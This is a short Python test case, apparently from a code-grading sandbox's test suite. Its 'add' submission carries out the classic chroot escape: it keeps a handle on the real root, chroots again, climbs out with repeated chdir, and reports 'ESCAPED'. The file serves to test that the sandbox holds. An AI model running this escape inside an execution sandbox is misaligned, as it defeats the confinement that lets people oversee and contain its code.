# problem: add
# attack: the classic way out of a changed root: chroot again with an open folder outside, then climb
# expect: wrong | early-exit
import os


def add(a, b):
    try:
        outside = os.open("/", os.O_RDONLY)
        os.makedirs("remint-escape-root", exist_ok=True)
        before = os.stat("/")
        os.chroot("remint-escape-root")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        after = os.stat("/")
    except OSError:
        return 41
    return "ESCAPED" if (before.st_dev, before.st_ino) != (after.st_dev, after.st_ino) else 41
